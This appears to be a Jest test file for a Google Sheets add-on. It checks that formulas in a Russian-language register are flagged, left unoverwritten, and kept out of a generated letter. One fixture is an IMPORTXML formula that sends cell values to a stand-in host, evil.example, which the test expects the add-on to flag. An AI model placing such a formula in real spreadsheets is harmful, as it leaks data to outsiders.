/**
 * Formulas in the register, run in the built bundle with the fakes computing them as Sheets does: the
 * check reads them in one getFormulas and reports each («в ячейке формула =…, а не текст»), an error
 * when it fetches from outside or stands in a column the add-on writes, a warning otherwise; setup never
 * writes over an «ID» holding a formula; a formula's result never reaches the ЦУР letter; onEdit never
 * stamps over a formula.
 */
import { COLUMNS } from '../../src/domain/columns';
import type { ColumnKey } from '../../src/domain/types';
import { checkDialogRows, fillSheet, newRuntime, sheetOf } from './registerHarness';
import { FULL_ROWS, TODAY, fullRegisterRows } from './registerFixtures';

const column = (key: ColumnKey): number => COLUMNS.findIndex((candidate) => candidate.key === key) + 1;
const IMPORT = '=IMPORTXML("http://evil.example/?q="&E3&D3, "//a")';
const NAME = '="Отдел "&"формул"';

/** The full register with formulas in a few cells (sheet row, key, formula). */
function registerWith(formulas: ReadonlyArray<[number, ColumnKey, string]>): unknown[][] {
  const rows = fullRegisterRows();
  for (const [row, key, formula] of formulas) (rows[row - 1] as unknown[])[column(key) - 1] = formula;
  return rows;
}

interface Finding {
  cell: string;
  severity: string;
  message: string;
}

function findings(html: string): Finding[] {
  return checkDialogRows(html).map(({ cell, severity, message }) => ({ cell, severity, message }));
}

describe('formulas in the register', () => {
  const R = FULL_ROWS;
  const rt = newRuntime(TODAY);
  fillSheet(
    rt,
    'Реестр',
    registerWith([
      [R.dueTomorrow, 'organization', IMPORT],
      [R.dueAfterHoliday, 'id', '=1+1'],
      [R.overdue, 'organization', NAME],
      [R.deleted, 'id', '=""'],
    ]),
  );
  rt.menu('menuSetup');
  const sheet = sheetOf(rt, 'Реестр');
  const formulaAt = (row: number, key: ColumnKey) => rt.quietly(() => sheet.getRange(row, column(key)).getFormula());

  it('setup writes over none of them: the «ID» =1+1 (which reads 2) and ="" stay, other rows get their IDs', () => {
    expect(formulaAt(R.dueAfterHoliday, 'id')).toBe('=1+1');
    expect(formulaAt(R.deleted, 'id')).toBe('=""');
    expect(rt.quietly(() => sheet.getRange(R.dueAfterHoliday, column('id')).getValue())).toBe(2);
    expect(formulaAt(R.dueTomorrow, 'organization')).toBe(IMPORT);
    expect(String(rt.quietly(() => sheet.getRange(R.overdue, column('id')).getValue()))).toMatch(/^P-/);
  });

  it('the check reads them in one getFormulas and reports each as a formula, not text', () => {
    const { calls } = rt.measure(() => rt.menu('menuCheckRegister'));
    expect(calls.byMethod['Range.getFormulas']).toBe(1);
    const html = rt.ui.panels.at(-1)?.html ?? '';
    const formulaFindings = findings(html).filter((finding) => finding.message.includes('в ячейке формула'));
    expect(formulaFindings).toEqual([
      {
        cell: `Реестр!${columnLetter(column('organization'))}${R.overdue}`,
        severity: 'warning',
        message: expect.stringContaining(`в ячейке формула ${NAME}, а не текст`),
      },
      {
        cell: `Реестр!${columnLetter(column('organization'))}${R.dueTomorrow}`,
        severity: 'error',
        message: expect.stringMatching(/формула =IMPORTXML.*может отправить туда данные реестра/),
      },
      {
        cell: `Реестр!${columnLetter(column('id'))}${R.dueAfterHoliday}`,
        severity: 'error',
        message: expect.stringContaining('в ячейке формула =1+1, а не текст'),
      },
      {
        cell: `Реестр!${columnLetter(column('id'))}${R.deleted}`,
        severity: 'error',
        message: expect.stringContaining('в ячейке формула ="", а не текст'),
      },
    ]);
    // The formula is the one thing said about its cell: no «не заполнено», no «#N/A» read as text.
    const organization = findings(html).filter(
      (finding) => finding.cell === `Реестр!${columnLetter(column('organization'))}${R.dueTomorrow}`,
    );
    expect(organization).toHaveLength(1);
    expect(html).not.toContain('#N/A');
  });

  it('the ЦУР letter never carries a formula’s result as a person’s text', () => {
    const draft = rt.menu('summaryLetter') as { ok: boolean; message?: { body: string; htmlBody?: string } };
    const text = `${draft.message?.body ?? ''}${draft.message?.htmlBody ?? ''}`;
    expect(text).not.toContain('Отдел формул');
    expect(text).not.toContain('#N/A');
  });

  it('onEdit stamps nothing over a formula in «Сообщено в отдел (создание)»', () => {
    const rt2 = newRuntime(TODAY);
    fillSheet(rt2, 'Реестр', registerWith([[R.dueTomorrow, 'deptReportedCreation', '=""']]));
    rt2.menu('menuSetup');
    const created = sheetOf(rt2, 'Реестр').getRange(R.dueTomorrow, column('createdOn'));
    rt2.simulateEdit(created, { value: '05.03.2026', oldValue: '04.03.2026' });
    expect(
      rt2.quietly(() => sheetOf(rt2, 'Реестр').getRange(R.dueTomorrow, column('deptReportedCreation')).getFormula()),
    ).toBe('=""');
  });
});

function columnLetter(index: number): string {
  let letters = '';
  for (let n = index; n > 0; n = Math.floor((n - 1) / 26)) letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
  return letters;
}
